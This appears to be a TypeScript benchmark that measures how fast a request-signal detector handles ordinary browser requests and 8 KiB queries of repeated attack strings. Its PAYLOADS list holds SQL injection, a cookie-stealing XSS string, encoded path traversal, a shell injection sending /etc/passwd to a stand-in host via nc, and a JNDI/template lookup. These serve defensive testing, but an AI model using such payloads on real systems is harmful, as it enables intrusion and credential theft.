import { type SeenRequest, signalsOf } from "../../lib/signals/signals.ts";
import { type Figure, figure } from "../figure.ts";
import { median, quantile, short } from "../numbers.ts";
import type { BenchOptions } from "../section.ts";

/** Number of requests timed together: a single one is too short for the clock. */
const ORDINARY_AT_ONCE = 64;
const HOSTILE_AT_ONCE = 4;
const HOSTILE_LENGTH = 8_192;

/**
 * The cost of signal detection for an ordinary request, and for one whose query is 8 KiB of
 * attacks.
 */
// deno-lint-ignore require-await -- a section promises its figures
export async function measure(options: BenchOptions): Promise<Figure[]> {
  const count = options.quick ? 4_096 : 32_768;
  const rounds = options.quick ? 3 : 9;
  const ordinary = Array.from({ length: count }, (_, n) => ordinaryRequest(n));
  const hostile = hostileRequests();
  const bare = timed(ordinary, ORDINARY_AT_ONCE, rounds, readFields);
  const seen = timed(ordinary, ORDINARY_AT_ONCE, rounds, signalsOf);
  return [
    figure("an ordinary request of 11 fields, p50", "µs", seen, {
      goal: ["≤", 1.5],
      note: `p99 ${short(quantile(seen, 0.99))} µs; adding up the lengths ` +
        `of its parts takes ${short(median(bare))} µs`,
    }),
    ...Object.entries(hostile).map(([name, requests]) => {
      const took = timed(requests, HOSTILE_AT_ONCE, rounds * 12, signalsOf);
      return figure(`8 KiB in the query: ${name}, p50`, "µs", took, {
        goal: ["≤", 30],
        note: `p99 ${short(quantile(took, 0.99))} µs`,
      });
    }),
  ];
}

/** Microseconds per request, in groups; the first rounds are a warm-up. */
function timed(
  requests: readonly SeenRequest[],
  atOnce: number,
  rounds: number,
  see: (request: SeenRequest) => number,
): number[] {
  const took: number[] = [];
  let found = 0;
  for (let round = 0; round < rounds; round++) {
    for (let i = 0; i + atOnce <= requests.length; i += atOnce) {
      const started = performance.now();
      for (let j = i; j < i + atOnce; j++) found += see(requests[j]!);
      if (round >= rounds / 3) {
        took.push((performance.now() - started) / atOnce * 1_000);
      }
    }
  }
  if (Number.isNaN(found)) throw new Error("Nothing was measured");
  return took;
}

/** The minimum cost of reading a request's parts. */
function readFields({ method, target, headers }: SeenRequest): number {
  let length = method.length + target.length;
  for (const item of headers) length += item[0]!.length + item[1]!.length;
  return length;
}

const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
];

/** As sent by a browser; every text is a new string, as from a socket. */
function ordinaryRequest(n: number): SeenRequest {
  const query = n % 3 === 0 ? `?page=${n % 50}&sort=price` : "";
  const fields: [string, string][] = [
    ["Host", "www.example.org"],
    ["User-Agent", AGENTS[n % AGENTS.length]!],
    [
      "Accept",
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ],
    ["Accept-Language", "en-US,en;q=0.5"],
    ["Accept-Encoding", "gzip, deflate, br, zstd"],
    ["Referer", `https://www.example.org/articles/${n % 700}`],
    ["Cookie", `session=${(n * 7_919).toString(36)}f3a9c07b1e; theme=dark`],
    ["Connection", "keep-alive"],
    ["Sec-Fetch-Mode", "navigate"],
    ["Sec-Fetch-Site", "same-origin"],
    ["Upgrade-Insecure-Requests", "1"],
  ];
  return {
    method: "GET",
    target: fresh(`/articles/2024/05/of-interest-${n % 5_000}${query}`),
    headers: fields.map(([name, value]): [string, string] => [
      fresh(name),
      fresh(value),
    ]),
  };
}

const PAYLOADS = {
  "SQL": "1' UNION ALL SELECT username,password FROM users WHERE 1=1-- ",
  "markup": '"><img src=x onerror=alert(document.cookie)><svg/onload=1>',
  "traversal, twice encoded": "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
  "shell": "; cat /etc/passwd | nc 203.0.113.9 4444 && $(id) ",
  "templates and look-ups": "${jndi:ldap://203.0.113.9/a}{{7*7}}#{7*7}",
};

function hostileRequests(): Record<string, SeenRequest[]> {
  const all: Record<string, string> = {
    ...PAYLOADS,
    "all of them by turns": Object.values(PAYLOADS).join(" "),
  };
  return Object.fromEntries(
    Object.entries(all).map(([name, payload]) => {
      const sent = payload.includes("%25")
        ? payload
        : encodeURIComponent(payload);
      const text = sent.repeat(Math.ceil(HOSTILE_LENGTH / sent.length))
        .slice(0, HOSTILE_LENGTH);
      return [
        name,
        Array.from({ length: 32 }, (_, n): SeenRequest => ({
          method: "GET",
          target: fresh(`/search?n=${n}&q=${text}`),
          headers: [],
        })),
      ];
    }),
  );
}

function fresh(text: string): string {
  return new TextDecoder().decode(new TextEncoder().encode(text));
}
